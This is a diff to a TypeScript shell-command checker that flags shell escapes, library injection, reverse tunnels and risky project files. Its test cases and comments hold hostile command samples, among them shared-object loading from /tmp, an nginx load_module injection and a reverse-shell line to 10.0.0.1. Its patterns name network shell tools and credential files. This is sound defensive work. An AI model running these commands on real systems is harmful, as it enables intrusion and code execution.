@@ -1,4 +1,5 @@
 import { escapes, FETCHED, isKnown, squeezed, UNKNOWN } from "../words.ts";
+import { DATA } from "./access.ts";
 import { type Call, each, type Judges, Options, rules } from "./rule.ts";
 import { shellRules } from "./shell.ts";
 
@@ -11,9 +12,11 @@ export const languageRules = {
 				"openssl req -engine ./lib.so",
 				"ssh-keygen -D ./lib.so",
 				"sqlite3 /dev/null '.load ./x.so'",
+				"mysql --default-auth ../../../tmp/lib",
+				"echo 'load_module /tmp/x.so;' > /tmp/n.conf; nginx -t -c /tmp/n.conf",
 				"gimp -idf --batch-interpreter=python-fu-eval -b 'import os'",
 			],
-			pass: ["ssh-keygen -t ed25519", "openssl req -new", "gdb ./a.out core"],
+			pass: ["eslint --plugin ./tools/plugin.js src", "ssh-keygen -t ed25519", "openssl req -new", "gdb ./a.out core"],
 		},
 	}),
 };
@@ -23,15 +26,27 @@ const g = languageRules;
 const interpreter =
 	(language: string, flags: string, others = ""): ((call: Call) => void) =>
 	(call) => {
-		const options = new Options(call.args, `${flags} ${others}`, true);
+		// `-pe`: two flags, and only the second takes a value.
+		const options = new Options(
+			call.args.map((arg) => (/^-(pe|ep|ic|Ec|uc|Bc|Ic|sc)$/.test(arg) && flags.includes(`-${arg.slice(2)}`) ? `-${arg.slice(2)}` : arg)),
+			`${flags} ${others}`,
+			true,
+		);
 		const texts = options.values(...flags.split(" ")).filter((text) => text !== "");
-		for (const text of texts) call.code(language, text);
+		for (const text of texts) {
+			call.code(language, text);
+		}
 		if (texts.length > 0) return;
-		const [file] = options.operands;
+		const file = programOf(options.operands);
 		if (file === undefined || file === "-" || file === "/dev/stdin") {
-			if (call.stdin === null || options.has("--version", "--help", "-V", "-v", "-h")) return;
+			if ((call.stdin === null && !options.has("-m")) || options.has("--version", "--help", "-V", "-v", "-h")) return;
 			// A module reads its input as what it is about; these read it as a program.
 			const module = language === "python" ? options.value("-m") : undefined;
+			for (const path of module === undefined ? [] : [`${module.replaceAll(".", "/")}.py`, `${module}/__main__.py`]) {
+				const content = call.file(path);
+				if (content !== undefined) return void call.code(language, content);
+			}
+			if (call.stdin === null) return;
 			if (module !== undefined && !/^(code|pdb|IPython|bpython|ptpython|idlelib|asyncio|runpy|cProfile|profile|trace)(\.|$)/.test(module))
 				return;
 			if (call.stdin.includes(FETCHED)) call.runsFetched();
@@ -41,13 +56,23 @@ const interpreter =
 		}
 		// deno and others run what a URL names.
 		const url = options.operands.find((arg) => /^https?:\/\//.test(arg));
-		if (url !== undefined && (/^http:/.test(url) || /^https?:\/\/(\d{1,3}\.){3}/.test(url)) && /^(run|eval|https?:.{1,2048})$/.test(file))
+		if (
+			url !== undefined &&
+			(/^http:/.test(url) || /^https?:\/\/(\d{1,3}\.){3}/.test(url)) &&
+			/^(run|eval|https?:.{1,2048})$/.test(options.operands[0] ?? "")
+		)
 			call.runsFetched();
-		const content = call.file(file);
+		const content = call.file(file) ?? (language === "node" ? call.file(`${file}/index.js`) : undefined);
 		if (content?.includes(FETCHED)) call.runsFetched();
 		else if (content !== undefined && isKnown(content)) call.code(language, content);
 		else if (content !== undefined) call.hit(shellRules["unresolved-script"]);
 	};
+
+/** The file that is to be run: `x.js`, `run x.js`. */
+const programOf = (operands: readonly string[]): string | undefined =>
+	/^(run|r|exec|script|start|compile|c|eval)$/.test(operands[0] ?? "") && operands.length > 1
+		? operands.slice(1).find((operand) => !operand.startsWith("-"))
+		: operands[0];
 
 const awk = (call: Call): void => {
 	const options = new Options(call.args, "-F -v -f -e -i --file --source --assign --field-separator", true);
@@ -130,13 +155,27 @@ const editor = (call: Call): void => {
 	stdinCommands(call);
 };
 
+/** A shell and nothing else, typed where something else is expected. */
+const TYPED_SHELL =
+	/^\s{0,8}(\^[A-Z]\s{0,2}){0,3}(reset;\s{0,2})?(sh X |shell |exec |spawn )?\s{0,2}((\/usr)?\/bin\/)?(ba|da|z|k)?sh( -[ip]{1,2}){0,2}( X)?(\s{1,2}[0-9]?[<>]&?\S{1,64}){0,3}( X)?\s{0,8}$/;
+
 /** Lines that an interactive program is fed: `!cmd` is a shell's. */
 function stdinCommands(call: Call): void {
-	if (call.stdin === null) return;
-	for (const line of call.stdin.split("\n").slice(0, 256)) {
-		const bang = /^\s{0,8}(?::|\\)?!\s{0,4}(.{1,4096})$/.exec(line) ?? /^\s{0,8}\.(?:shell|system)\s{1,4}(.{1,4096})$/.exec(line);
+	// A file of commands counts like what is typed: `-f x.sql`, `-x x.gdb`, `-S x.vim`.
+	const given = call.args.flatMap((arg, at) =>
+		/^(-f|-x|-S|-s|--file|--command)$/.test(call.args[at - 1] ?? "") ? (call.file(arg) ?? []) : [],
+	);
+	if (call.stdin === null && given.length === 0) return;
+	for (const line of [call.stdin ?? "", ...given].join("\n").split("\n").slice(0, 256)) {
+		const bang =
+			/^\s{0,8}(?::|\\)?!\s{0,4}(.{1,4096})$/.exec(line) ??
+			/^\s{0,8}shell\s{1,4}(.{1,4096})$/.exec(line) ??
+			/^\s{0,8}\.(?:shell|system)\s{1,4}(.{1,4096})$/.exec(line);
 		if (bang) call.script(bang[1] ?? "");
-		else if (/^[0-9,.$%]{0,8}[rwe]\s{1,4}[~/]/.test(line)) {
+		else if (TYPED_SHELL.test(line)) call.hit(shellRules["shell-escape"]);
+		else if (/^(w|wq)$/.test(line) && /^(ed|red|ex|vi|vim)$/.test(call.name)) {
+			for (const file of new Options(call.args, "-p").operands) call.writes(file);
+		} else if (/^[0-9,.$%]{0,8}[rwe]\s{1,4}[~/]/.test(line)) {
 			const path = line.replace(/^[0-9,.$%]{0,8}[rwe]\s{1,4}/, "");
 			if (/^[0-9,.$%]{0,8}w/.test(line)) call.writes(path);
 			else call.reads(path);
@@ -212,7 +251,7 @@ export const languageJudges: Judges = [
 	}),
 	each("guile csi racket sbcl clisp gosh emacs-lisp elisp clojure clj lein", interpreter("lisp", "-c -e -x --eval -eval -ex", "-l")),
 	each(
-		"julia R Rscript octave ghc ghci runhaskell elixir iex erl groovy groovysh scala jshell kotlin swift crystal v nim raku dart pwsh powershell osascript gnuplot sage maxima scilab ocaml ghci mono csharp fsharpi escript rakudo xmllint puppet smlnj poly yap swipl gprolog cobc gfortran factor forth gforth puppet",
+		"julia R Rscript octave ghc ghci runhaskell elixir iex erl groovy groovysh scala jshell kotlin swift crystal v nim raku dart pwsh powershell osascript gnuplot sage maxima scilab ocaml ghci mono csharp fsharpi escript rakudo xmllint puppet smlnj poly yap swipl gprolog dotnet cobc gfortran factor forth gforth puppet",
 		(call) => {
 			const options = new Options(call.args, "-e -E -c -eval --eval -exec -p -x -g --execute -Command -command -b");
 			const texts = [
@@ -220,11 +259,25 @@ export const languageJudges: Judges = [
 				...call.args.flatMap((arg, at) => (/^(-eval|-exec|-command|-Command|-s)$/.test(arg) ? [call.args[at + 1] ?? ""] : [])),
 			];
 			for (const text of texts) call.code(call.name, text);
+			// Its own names for what every shell does.
+			if (/^(pwsh|powershell)$/.test(call.name))
+				for (const text of texts)
+					call.maybe(
+						text
+							.replace(/\b(Remove-Item|del|rd|ri|erase)\b/gi, "rm")
+							.replace(/\b(Get-Content|gc)\b/gi, "cat")
+							.replace(/\b(Invoke-WebRequest|iwr|Invoke-RestMethod|irm)\b/gi, "curl")
+							.replace(/\s-Recurse\b/gi, " -r")
+							.replace(/\s-Force\b/gi, " -f")
+							.replace(/\s-(Path|LiteralPath)\b/gi, ""),
+						call.name,
+					);
 			if (/^(pwsh|powershell)$/.test(call.name) && call.args.some((arg) => /^-(e|en|enc|enco.{0,10})$/i.test(arg)))
 				call.hit(shellRules["unresolved-script"]);
 			if (options.operands[0] === "eval") call.code(call.name, options.operands.slice(1).join(" "));
-			if (call.stdin !== null) call.code(call.name, call.stdin);
-			const content = options.operands[0] === undefined ? undefined : call.file(options.operands[0]);
+			if (call.stdin !== null && texts.length === 0) call.code(call.name, call.stdin);
+			const file = programOf(options.operands);
+			const content = file === undefined ? undefined : call.file(file);
 			if (content !== undefined) call.code(call.name, content);
 		},
 	),
@@ -241,7 +294,7 @@ export const languageJudges: Judges = [
 		});
 	}),
 	each(
-		"ed red less more most man pg info pinfo nano pico ftp gdb lldb mysql mariadb psql sqlite3 bc dc telnet rlogin ncftp mailx mail slsh dmsetup bpftrace crash jdb pdb zathura joe mutt irssi weechat hgweb cscope screen byobu ul top",
+		"ed red less more most man pg info pinfo nano pico ftp gdb lldb mysql mariadb psql sqlite3 bc dc telnet rlogin ncftp mailx mail slsh dmsetup bpftrace crash jdb pdb zathura joe mutt irssi weechat hgweb cscope screen byobu ul top pic hping3 ranger mc tdbtool tasksh jtag scanmem ginsh bconsole debugfs terraform lftp psftp smbclient tftp sftp redis-cli mongosh mongo msfconsole htop",
 		(call) => {
 			stdinCommands(call);
 			const options = new Options(call.args, "-e -c -ex -P -x -cmd --eval-command --init-eval-command --command --pager");
@@ -312,6 +365,8 @@ export const languageJudges: Judges = [
 
 /** Tcl's commands are `exec` and `spawn`. */
 function tcl(call: Call, text: string): void {
+	for (const [, path] of text.matchAll(/\bfile\s{1,4}delete\s{1,4}(?:-force\s{1,4})?(?:--\s{1,4})?["{]?([~/.][^\s"}\];]{0,512})/g))
+		call.deletes(path ?? "", true);
 	for (const match of text.matchAll(
 		/(?:^|[;\n[{]|\s)(?:exec|spawn|system|open\s{1,4}"?\|)\s{0,4}(?:-\w{1,16}\s{1,4}){0,2}([^;\n\]}]{1,2048})/g,
 	)) {
@@ -331,15 +386,41 @@ export function judgeShellWords(call: Call, known: boolean): void {
 	if (hooks && args.some((arg) => hooks.test(arg)) && !args.includes("-c"))
 		call.hit(shellRules[name === "script" ? "unresolved-script" : "shell-escape"]);
 	if (!READS_FILES.test(name) && (!known || BUILDS.has(name))) writtenBefore(call);
+	// What has come from nobody knows where, installed or built.
+	if (
+		call.fetchedBlindly &&
+		INSTALLS.test(name) &&
+		[...args.filter((arg) => !arg.startsWith("-")), "./x"].some((file) => call.file(file)?.includes(FETCHED))
+	)
+		call.runsFetched();
 	if (TAKES_SHELLS.has(name)) return;
 	args.slice(0, 256).forEach((arg, at) => {
 		if (arg.length <= 4096) startedBy(call, arg, args[at + 1] ?? "", known);
 	});
 	if (call.stdin !== null && /syscmd\(/.test(call.stdin)) startedBy(call, call.stdin, "", known);
+	// Whatever it is, it may be there to run the rest: `fakeroot rm -rf /`.
+	if (!known && !DATA.has(name) && !READS_FILES.test(name)) {
+		const at = args.slice(0, 12).findIndex((arg) => OFTEN_RUN.test(arg));
+		if (
+			at >= 0 &&
+			at + 1 < args.length &&
+			!/^(install|add|remove|help|info|search|show|list|-S|-Q\w?|which|explain)$/.test(args[at - 1] ?? "") &&
+			call.via.length < 8
+		)
+			call.perhaps(() => call.argv(args.slice(at), name, null));
+	}
+	if (RUNS_PROJECT.has(name) || (!known && !DATA.has(name) && !READS_FILES.test(name))) projectFiles(call);
+	// A tunnel back, whatever its program is called.
+	if (args.some((arg) => /^R:(socks|\d{1,5}(:|$))/.test(arg))) call.hit(shellRules["shell-to-network"]);
 	// `rcat connect -s bash 10.0.0.1 4242`
 	if (args.some((arg) => PLAIN_SHELL.test(arg)) && args.some((arg) => /^(tcp:\/\/)?(\d{1,3}\.){3}\d{1,3}(:\d{1,5})?$/.test(arg)))
 		call.hit(shellRules["shell-to-network"]);
 }
+const INSTALLS =
+	/^(dpkg|rpm|apt|apt-get|dnf|yum|pip|npm|yarn|pnpm|make|gmake|cmake|cargo|go|gem|python|node|ruby|perl|php|snap|flatpak|docker|docker-compose)$/;
+/** Programs by whose names a wrapper's command is found. */
+const OFTEN_RUN =
+	/^((\/usr)?\/s?bin\/)?(rm|shred|dd|mkfs(\.\w{1,8})?|wipefs|chmod|chown|mv|cp|cat|tee|truncate|curl|wget|nc|ncat|socat|telnet|bash|sh|zsh|dash|python3?|perl|ruby|node|php|find|sudo|su|env|nohup|xargs|kill|pkill|killall|reboot|shutdown|poweroff|useradd|usermod|userdel|passwd|chpasswd|crontab|systemctl|iptables|insmod|modprobe|mount|tar|scp|ssh|sed|awk)$/;
 const PLAIN_SHELL = /^(\/bin\/|\/usr\/bin\/)?(ba|da|z|k)?sh$|^(cmd|powershell)(\.exe)?$/;
 
 /** What an argument may have a program start. */
@@ -350,12 +431,23 @@ function startedBy(call: Call, arg: string, next: string, known: boolean): void 
 	const hook = HOOK_OPTION.exec(arg);
 	const path = hook?.[2] ?? next;
 	if (hook && !known && /^\/(tmp|var\/tmp|dev\/shm)\//.test(path)) call.hit(shellRules["shell-escape"]);
+	if (hook && /-on-|(hook|askpass|plugin|pager|helper)$/.test(hook[0].split("=", 1)[0] ?? "") && PLAIN_SHELL.test(path))
+		call.hit(shellRules["shell-escape"]);
+	// A library of one's own, by whatever option a program loads such things with.
+	const library = LIBRARY_OPTION.exec(arg);
+	if (library) {
+		const loaded = library[2] ?? next;
+		if (/^(\/tmp|\/var\/tmp|\/dev\/shm)\/|^(\.\.?\/){1,16}[^\s]{0,256}(\.so|\/lib[^/]{0,64})$|^(\.\.\/){3}/.test(loaded))
+			call.hit(g["load-library"]);
+	}
 	// fzf, m4 and others: `enter:execute(...)`, `esyscmd(...)`.
 	for (const match of arg.matchAll(/(?:execute|execute-silent|reload|become|transform|esyscmd|syscmd|preview)\(([^)]{1,2048})\)/g))
 		call.script(match[1] ?? "", call.name, [], null);
 	const alias = /^alias\.[\w-]{1,64}=!([\s\S]{1,2048})$/.exec(arg);
 	if (alias) call.script(alias[1] ?? "", call.name, [], null);
 }
+const LIBRARY_OPTION =
+	/^--?[a-z-]{0,32}(default-auth|plugin|plugin-dir|plugins|module|engine|provider|load|library|lib|preload|extension)(?:=(.{1,512}))?$/;
 const HOOK_OPTION =
 	/^--?[a-z-]{0,32}(script|hook|exec|cmd|command|askpass|plugin|helper|program|pager|editor|on-[a-z-]{1,24}|-bin)(?:=(.{1,512}))?$/;
 
@@ -363,13 +455,99 @@ const HOOK_OPTION =
 function writtenBefore(call: Call): void {
 	// A program that such a file has started is not given it again.
 	if (call.via.length > 8) return;
-	for (const content of call.filesIn(BUILDS.has(call.name) ? [...call.args, "."] : call.args)) {
+	// A build's files lie around the one that is named.
+	const around = BUILDS.has(call.name)
+		? [
+				".",
+				...call.args.filter((arg) => arg.includes("/")).flatMap((arg) => [arg.replace(/\/[^/]*$/, ""), arg.replace(/\/[^/]*$/, "/src")]),
+			]
+		: [];
+	const named = new Set(call.filesIn(call.args));
+	for (const content of around.length > 0 ? call.filesIn([...call.args, ...around]) : named) {
 		if (squeezed(content).trim() === "") continue;
+		if (/["'\s=](\/tmp|\/var\/tmp|\/dev\/shm)\/[^\s;"']{1,256}\.(so|dylib)\b/.test(content)) call.hit(g["load-library"]);
+		for (const script of jsonScripts(content)) call.maybe(script, call.name);
 		if (SHELL_WORD.test(content.replace(/^#![^\n]{0,64}/, ""))) call.hit(shellRules["shell-escape"]);
 		call.code(call.name, content);
-		if (!/^\s{0,8}[{<[(]/.test(content)) call.maybe(content, call.name);
+		// What only lies there is a script if it says so: it may be a makefile.
+		if (!/^\s{0,8}[{<[(]/.test(content) && (named.has(content) || content.startsWith("#!"))) call.maybe(content, call.name);
 	}
 }
+/**
+ * What this script has written into the project that a program is about to work on: build descriptions, tests, hooks and settings are
+ * programs, each in its own way. Whether they are run nobody can say, so only what is denied counts.
+ */
+function projectFiles(call: Call): void {
+	if (call.via.length > 6) return;
+	for (const [path, content] of call.filesBelow(".")) {
+		if (
+			content.length > 16_384 ||
+			/\.(md|mdx|rst|txt|log|html?|css|svg|csv|lock)$/i.test(path.replace(/CMakeLists\.txt$/, "")) ||
+			!RISKY.test(content)
+		)
+			continue;
+		call.perhaps(() => {
+			call.code(LANGUAGES[/\.(\w{1,6})$/.exec(path)?.[1] ?? ""] ?? call.name, content);
+			for (const script of jsonScripts(content)) call.maybe(script, call.name);
+			if (CODE_FILE.test(path) && !content.includes("go:generate")) return;
+			for (const line of content.split("\n", 256)) {
+				if (!RISKY.test(line) || line.length > 2048) continue;
+				for (const script of commandsOf(line)) call.maybe(script, call.name);
+			}
+		});
+	}
+}
+/** Words without which nothing in a file is worth a closer look. */
+const RISKY =
+	/\b(rm|dd|mkfs|shred|curl|wget|nc|ncat|socat|chmod|chown|remove_dir_all|RemoveAll|rmtree|rmSync|rm_rf|execSync|system|popen|crontab|useradd|Socket|socket)\b|\/dev\/tcp|\/etc\/(shadow|passwd|sudoers)|\.ssh|\.aws/;
+const CODE_FILE = /\.(py|m?[jt]sx?|cjs|rb|pl|php|lua|rs|go|java|kt|swift|c|cc|cpp|h|cs|dart|jl|r|ex|exs)$/i;
+const LANGUAGES: Readonly<Record<string, string>> = {
+	py: "python",
+	js: "node",
+	mjs: "node",
+	cjs: "node",
+	ts: "node",
+	rb: "ruby",
+	pl: "perl",
+	php: "php",
+	lua: "lua",
+	jl: "julia",
+};
+
+/** The commands that a line of a description may hold: all of it, what stands behind a key or a dash, and what is quoted. */
+function commandsOf(line: string): string[] {
+	const plain = line.trim().replace(/^(?:-\s{1,4}|@|\/\/go:generate\s{1,4}){1,3}/, "");
+	const behind = /^[^"'\s]{0,64}\s{0,4}[:=]\s{0,4}(.{1,2048})$/.exec(plain)?.[1];
+	const quoted = [...plain.matchAll(/"((?:[^"\\]|\\.){4,1024})"|'([^']{4,1024})'/g)].map((match) =>
+		(match[1] ?? match[2] ?? "").replace(/\\(["'])/g, "$1"),
+	);
+	const listed = quoted.length > 2 ? [quoted.join(" ")] : [];
+	return [plain, ...(behind === undefined ? [] : [behind]), ...quoted, ...listed].filter((text) => STARTS_COMMAND.test(text)).slice(0, 8);
+}
+const STARTS_COMMAND =
+	/^(?:sudo |env |exec |nohup |time ){0,2}(?:(?:\/usr)?\/bin\/)?(?:rm|dd|mkfs\S{0,8}|shred|curl|wget|nc|ncat|socat|chmod|chown|mv|cp|cat|tee|tar|bash|sh|zsh|python3?|perl|ruby|node|php|find|eval|source|crontab|useradd|kill|cd|echo|printf|base64|scp|ssh|docker)\s/;
+
+/** The scripts of a package's description. */
+function jsonScripts(text: string): string[] {
+	if (text.length > 16_384 || !/^\s{0,64}\{/.test(text) || !text.includes('"scripts"')) return [];
+	try {
+		const { scripts } = JSON.parse(text) as { scripts?: Record<string, unknown> };
+		return Object.values(scripts ?? {})
+			.flat()
+			.filter((script) => typeof script === "string")
+			.slice(0, 64);
+	} catch {
+		return [];
+	}
+}
+
+/** Programs with rules of their own that work on a project and run what lies in it. */
+const RUNS_PROJECT = new Set(
+	"npm yarn pnpm npx bunx bun deno pip pip3 gem cargo go composer gradle mvn rake rails bundle pytest jest vitest make gmake cmake terraform tofu terragrunt ansible-playbook vagrant poetry uv hatch node python ruby php java helm direnv nix nix-shell docker-compose swift puppet julia".split(
+		" ",
+	),
+);
+
 /** What runs a program of the caller's choosing behind one rare option. */
 const HOOKS: ReadonlyMap<string, RegExp> = new Map([
 	["wget", /^--use-askpass/],
@@ -385,10 +563,10 @@ const HOOKS: ReadonlyMap<string, RegExp> = new Map([
 ]);
 /** Programs for which a file's content is only content. */
 const READS_FILES =
-	/^(cat|less|more|head|tail|wc|sort|uniq|diff|cmp|comm|join|paste|jq|yq|bat|stat|file|ls|test|xxd|od|cut|tr|column|md5sum|sha256sum|shellcheck|prettier|eslint|black|yamllint|code|open|tree|nl|tac|tee|gofmt|rustfmt|kubectl|docker|chmod|rm|mv|cp|mkdir|cd|echo|printf|git|grep|rg|sed|awk)$/;
+	/^(cat|less|more|head|tail|wc|sort|uniq|diff|cmp|comm|join|paste|jq|yq|bat|stat|file|ls|test|xxd|od|cut|tr|column|md5sum|sha256sum|shellcheck|prettier|eslint|black|yamllint|open|tree|nl|tac|tee|gofmt|rustfmt|kubectl|docker|chmod|rm|mv|cp|mkdir|cd|echo|printf|git|grep|rg|sed|awk)$/;
 /** Programs that run what lies in the directory that they are given or stand in. */
 const BUILDS = new Set(
-	"bundle bundler npm yarn pnpm pip pip3 gem cargo go easy_install composer gcc g++ cc clang tcc rustc javac java v crystal nim dotnet mvn gradle ant rake nmap ansible-playbook puppet facter aria2c strings latex pdflatex pandoc cobc m4 nginx julia bpftrace apt apt-get yum dnf pdb vagrant rtorrent dstat".split(
+	"bundle bundler npm yarn pnpm pip pip3 gem cargo go easy_install composer gcc g++ cc clang tcc rustc javac java v crystal nim dotnet mvn gradle ant rake nmap ansible-playbook puppet facter aria2c strings latex pdflatex pandoc cobc m4 nginx julia bpftrace apt apt-get yum dnf code pytest tox nox jest vitest mocha rspec phpunit pdb vagrant rtorrent dstat".split(
 		" ",
 	),
 );
